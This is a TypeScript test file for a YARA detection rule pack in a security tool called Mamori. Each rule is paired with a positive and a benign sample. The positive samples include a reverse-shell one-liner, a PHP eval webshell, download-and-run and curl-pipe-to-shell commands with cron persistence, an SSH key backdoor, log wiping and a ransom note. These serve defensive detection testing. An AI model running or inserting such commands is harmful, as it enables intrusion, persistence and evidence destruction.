// Mamori's own YARA pack (rules/yara): it compiles without warnings, every rule carries the meta an alert is
// built from, and each rule finds its positive sample and leaves a similar benign sample alone. Samples are
// assembled at run time so that this source file does not itself match the rules.
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { YaraScanner } from '../../main/core/detect/yara/index.js';
import { helperSkipReason } from '../helpers/native-helper.js';

const BIN = join(process.cwd(), 'native-helpers', 'bin', 'mamori-yara');
const PACK = join(process.cwd(), 'rules', 'yara');
const skip = helperSkipReason(BIN);
if (skip) console.warn(`[yara pack] skipped: ${skip}`);

const j = (...parts: string[]) => parts.join('');
const elf = (body: string) => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(56), Buffer.from(body)]);
const php = j('<', '?php ');

/** rule -> [positive, negative]: the negative is the nearest benign thing a user could have. */
const SAMPLES: Record<string, [Buffer | string, Buffer | string]> = {
  mamori_linux_coin_miner: [
    elf(j('xm', 'rig 6.21 ', 'stratum', '+tcp://pool.example:3333 ', '--donate', '-level=1 ', 'random', 'x')),
    elf('stratum is a layer of rock; tcp:// is a scheme; randomx is not used here'),
  ],
  mamori_php_webshell: [
    j(php, 'if(isset($_', 'POST["c"])){ ', 'ev', 'al(base64_decode($_', 'POST["c"])); } ?>'),
    j(php, '$name = htmlspecialchars($_', 'POST["name"]); echo "Hello " . $name; ?>'),
  ],
  mamori_reverse_shell_script: [
    j('#!/bin/sh\n', 'bash -i >', '& /dev/', 'tcp/10.0.0.8/4444 0>&1\n'),
    '#!/bin/sh\n# check the port is open\nnc -z 10.0.0.8 4444 && echo open\n',
  ],
  mamori_ld_preload_rootkit: [
    elf(j('dlsym\0RTLD_NEXT\0/etc/ld.so.', 'preload\0readdir64\0readdir\0fopen64\0', 'process_to', '_filter\0')),
    elf('dlsym\0readdir\0readdir64\0fopen64\0 a normal library using its own symbols'),
  ],
  mamori_ssh_key_persistence_script: [
    j('#!/bin/sh\necho "ssh-', 'ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl x@y" >', '> /root/.ssh/authorized', '_keys\n'),
    '#!/bin/sh\n# list the keys that may log in\ncat ~/.ssh/authorized_keys\n',
  ],
  mamori_download_and_run_script: [
    j('#!/bin/sh\nwget http://203.0.113.5/x -O /', 'tmp/.x\nchmod +x /', 'tmp/.x\nnohup /', 'tmp/.x &\n'),
    '#!/bin/sh\nwget https://example.org/report.pdf -O /tmp/report.pdf\nxdg-open /tmp/report.pdf\n',
  ],
  mamori_pipe_to_shell: [
    j('#!/bin/sh\ncurl -fsSL http://203.0.113.5/i.sh | ', 'sh\nunset HIST', 'FILE\n(crontab -l; echo "* * * * * /tmp/i") | crontab', ' -\n'),
    '#!/bin/sh\n# the official installer\ncurl -fsSL https://get.example.com/install.sh | sh\n',
  ],
  mamori_log_and_history_wiper: [
    j('#!/bin/sh\nhistory', ' -c\nrm -f /var/log/', 'wtmp\n> /var/log/', 'auth.log\n'),
    '#!/bin/sh\n# rotate logs\nlogrotate -f /etc/logrotate.conf\nhistory | tail -5\n',
  ],
  mamori_ransom_note: [
    j('All your files have been ', 'encrypted!\nTo decrypt them send 0.1 bit', 'coin to the address below.\n'),
    'Backups: your files have been copied to the NAS. Passwords are stored encrypted.\n',
  ],
  mamori_packed_elf_upx: [
    elf(j('UP', 'X!\0$Info: This file is packed with the ', 'UPX executable packer http://upx.sf.net $\0')),
    elf('an ordinary program that mentions upx in its help text'),
  ],
};

describe.skipIf(skip !== null)(`Mamori's YARA pack${skip ? ` (skipped: ${skip})` : ''}`, () => {
  let scanner: YaraScanner;
  beforeAll(async () => { scanner = await YaraScanner.start({ rules: [PACK], binary: BIN, threads: 1, log: () => undefined }); });
  afterAll(async () => { await scanner?.close(); });

  it('compiles with no errors or warnings', () => {
    expect(readdirSync(PACK).filter((f) => f.endsWith('.yar')).length).toBeGreaterThan(0);
    expect(scanner.report.errors).toEqual([]);
    expect(scanner.report.warnings).toEqual([]);
    expect(scanner.report.rules).toBe(Object.keys(SAMPLES).length);
  });

  it.each(Object.entries(SAMPLES))('%s: finds its sample, not the benign one, and carries the alert meta', async (rule, [bad, good]) => {
    const hit = await scanner.scanData(`${rule}.sample`, Buffer.from(bad));
    const match = hit.find((m) => m.rule === rule);
    expect(match, `positive sample of ${rule}`).toBeDefined();
    expect(match!.meta).toMatchObject({
      severity: expect.stringMatching(/^(critical|high|medium|low)$/), attack: expect.stringMatching(/^T\d{4}(\.\d{3})?$/),
      title_en: expect.any(String), title_ja: expect.any(String), summary_en: expect.any(String), summary_ja: expect.any(String),
    });
    const miss = await scanner.scanData(`${rule}.benign`, Buffer.from(good));
    expect(miss.map((m) => m.rule), `benign sample of ${rule}`).toEqual([]);
  });
});
